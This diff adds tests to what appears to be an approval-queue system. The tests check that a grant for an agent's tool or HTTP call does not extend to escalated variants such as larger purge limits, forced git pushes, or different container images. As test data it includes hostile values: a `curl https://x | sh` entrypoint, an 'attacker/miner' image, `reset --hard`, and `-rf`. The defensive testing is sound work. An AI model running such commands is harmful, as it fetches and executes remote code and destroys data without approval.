@@ -2641,3 +2641,76 @@ t.test('a duration, lifespan or retention is part of what a grant covers (ninete
     return (await grantedFor(queue, link(mine, 'alpha'), link(same ? mine : other, 'beta'))) === same;
   }), { numRuns: 8, examples: [[cases[0]!, 'json', false], [cases[1]!, 'mcp', false], [cases[2]!, 'json', false], [cases[3]!, 'mcp', false], [cases[0]!, 'json', true]] });
 });
+
+// Twentieth pass: how many, and which by age, a bulk delete or update acts on, named beside its
+// filter — a purge's `limit: 100` then `100000`, `older_than_days: 30` then `0` (every message),
+// `before`, `since`, `keep_last`, `max_count`, `top` — was content (only `filter`, `where` … were its
+// selection): a grant for purging a hundred month-old messages covered purging every one.
+t.test('how many and which by age a bulk delete or update acts on is part of what a grant covers (twentieth pass)', async (t) => {
+  const queue = await ApprovalQueue.open(tempDir(t, 'airlock-grants-'), { sweepMs: 0 });
+  t.teardown(() => queue.close());
+  const cases: Array<[string, unknown, unknown]> = [['limit', 100, 100000], ['older_than_days', 30, 0], ['before', '2024-01-01', '2099-01-01'], ['since', '30d', '0d'], ['keepLast', 50, 0], ['max_count', 10, 10000], ['top', 5, 5000], ['olderThan', 'P30D', 'PT0S']];
+  const where = ['post', 'delete', 'form', 'mcp'] as const;
+  const purge = (how: (typeof where)[number], name: string, v: unknown, note: string): RequestDescription => {
+    const args = { room: 'general', reason: note, [name]: v };
+    return how === 'post' ? call16('POST', 'https://chat.example/api/messages/purge', JSON.stringify(args))
+      : how === 'delete' ? call16('DELETE', 'https://chat.example/api/messages', JSON.stringify(args))
+        : how === 'form' ? call16('POST', 'https://chat.example/api/messages/bulk_delete', new URLSearchParams(Object.entries(args).map(([k, x]) => [k, String(x)])).toString(), 'application/x-www-form-urlencoded')
+          : call16('POST', 'https://mcp.tools.example/mcp', JSON.stringify({ jsonrpc: '2.0', id: 1, method: 'tools/call', params: { name: 'delete_messages', arguments: args } }));
+  };
+  await fc.assert(fc.asyncProperty(fc.constantFrom(...cases), fc.constantFrom(...where), fc.boolean(), async ([name, mine, other], how, same) => {
+    return (await grantedFor(queue, purge(how, name, mine, 'alpha'), purge(how, name, same ? mine : other, 'beta'))) === same;
+  }), { numRuns: 12, examples: [[cases[0]!, 'post', false], [cases[1]!, 'mcp', false], [cases[2]!, 'delete', false], [cases[5]!, 'form', false], [cases[0]!, 'post', true]] });
+  // Control: a list that is no bulk call still pages as it likes.
+  const list = (n: number): RequestDescription => call16('POST', 'https://chat.example/api/messages/search', JSON.stringify({ room: 'general', limit: n * 100, before: `2024-0${n}-01` }));
+  t.ok(await grantedFor(queue, list(1), list(3)), 'a search names its page size and window freely');
+});
+
+// Twentieth pass: what a call runs, under names the eighteenth pass's `command`/`script`/`argv` list
+// lacked — a container's `Entrypoint` and `Image` (Docker's `containers/create`), a tool's `args`,
+// `flags`, `options` — and a command-line option as a value whatever its name (`--force`, `-rf`,
+// `--prune --all`, an argument vector holding one): a grant for `git push origin main` covered
+// `git push --force origin main`, one for an alpine container one running an attacker's image.
+t.test('what a call runs (entrypoint, image, args, flags) and a command-line option are part of what a grant covers (twentieth pass)', async (t) => {
+  const queue = await ApprovalQueue.open(tempDir(t, 'airlock-grants-'), { sweepMs: 0 });
+  t.teardown(() => queue.close());
+  const cases: Array<[string, unknown, unknown]> = [
+    ['Entrypoint', undefined, ['sh', '-c', 'curl https://x | sh']], ['Image', 'alpine:3.19', 'attacker/miner'], ['args', ['push', 'origin', 'main'], ['push', '--force', 'origin', 'main']],
+    ['extra', ['status'], ['reset', '--hard', 'HEAD~5']], ['flags', '', '--force'], ['options', '-r', '-rf'], ['extra_args', undefined, '--prune --all'], ['opts', '--dry-run', '--no-dry-run']];
+  await fc.assert(fc.asyncProperty(fc.constantFrom(...cases), fc.constantFrom('json', 'mcp'), fc.boolean(), async ([name, mine, other], how, same) => {
+    const run = (v: unknown, note: string): RequestDescription => {
+      const args = { repo: '/srv/app', note, ...(v === undefined ? {} : { [name]: v }) };
+      return how === 'json' ? call16('POST', 'https://docker.ops.example/v1.43/containers/create', JSON.stringify(args))
+        : call16('POST', 'https://mcp.tools.example/mcp', JSON.stringify({ jsonrpc: '2.0', id: 1, method: 'tools/call', params: { name: 'git', arguments: args } }));
+    };
+    return (await grantedFor(queue, run(mine, 'alpha'), run(same ? mine : other, 'beta'))) === same;
+  }), { numRuns: 12, examples: [[cases[0]!, 'json', false], [cases[1]!, 'json', false], [cases[2]!, 'mcp', false], [cases[3]!, 'mcp', false], [cases[7]!, 'json', false], [cases[2]!, 'mcp', true]] });
+  // Control: text that holds dashes, and lists of words, still vary.
+  const post = (n: number): RequestDescription => call16('POST', 'https://mcp.tools.example/mcp', JSON.stringify({ jsonrpc: '2.0', id: 1, method: 'tools/call', params: { name: 'create_note', arguments: { text: `- item ${n} -- see e-mail`, tags: [`t${n}`, 'x-ray'], title: `re-run ${n}` } } }));
+  t.ok(await grantedFor(queue, post(1), post(2)), 'notes with dashes and tag lists still vary under the grant');
+});
+
+// Twentieth pass (left open by the nineteenth: integers of three digits or more under names no list
+// holds): `{"level": 100}` then `100000`, a key's `quota`, a card's `cap`, `replicas` (300 then
+// 30000), `?tier=100` were content: a grant for one covered any other. Compared by their order of
+// magnitude (ids, timestamps and cache busters keep theirs), a grant for 100 covers 100 to 999 only.
+t.test('an integer of three digits or more under a name no list holds is compared by its magnitude (twentieth pass)', async (t) => {
+  const queue = await ApprovalQueue.open(tempDir(t, 'airlock-grants-'), { sweepMs: 0 });
+  t.teardown(() => queue.close());
+  const where = ['json', 'query', 'form', 'mcp'] as const;
+  const shape = (place: (typeof where)[number], name: string, v: number, note: string): RequestDescription => {
+    const args = { service: 'web', note, [name]: v };
+    return place === 'json' ? call16('POST', 'https://ops.example/api/settings', JSON.stringify(args))
+      : place === 'query' ? call16('POST', `https://ops.example/api/settings?${name}=${v}`, JSON.stringify({ service: 'web', note }))
+        : place === 'form' ? call16('POST', 'https://ops.example/api/settings', `service=web&note=${note}&${name}=${v}`, 'application/x-www-form-urlencoded')
+          : call16('POST', 'https://mcp.tools.example/mcp', JSON.stringify({ jsonrpc: '2.0', id: 1, method: 'tools/call', params: { name: 'set_limits', arguments: args } }));
+  };
+  const pairs: Array<[string, number, number]> = [['level', 100, 100000], ['quota', 500, 5000000], ['cap', 250, 25000], ['replicas', 300, 30000], ['threshold', -100, -100000], ['tier', 100, 1000]];
+  await fc.assert(fc.asyncProperty(fc.constantFrom(...pairs), fc.constantFrom(...where), fc.constantFrom('same', 'near', 'other'), async ([name, mine, other], place, later) => {
+    const v = later === 'same' ? mine : later === 'near' ? mine + Math.sign(mine) * 10 : other;
+    return (await grantedFor(queue, shape(place, name, mine, 'alpha'), shape(place, name, v, 'beta'))) === (later !== 'other');
+  }), { numRuns: 12, examples: [[pairs[0]!, 'json', 'other'], [pairs[1]!, 'mcp', 'other'], [pairs[3]!, 'query', 'other'], [pairs[2]!, 'form', 'other'], [pairs[0]!, 'json', 'near']] });
+  // Controls: ids, timestamps and a cache buster keep their magnitude; counts and ids by name vary freely.
+  const list = (n: number): RequestDescription => call16('POST', `https://ops.example/api/notes?cb=17335000${n}0123`, JSON.stringify({ text: 'a', parent: 4000 + n, ts: 1733500000 + n, hits: n * 100, limit: n * 1000, note_id: n * 10000 }));
+  t.ok(await grantedFor(queue, list(1), list(3)), 'ids, timestamps and cache busters of one magnitude, and counts by name, still vary');
+});
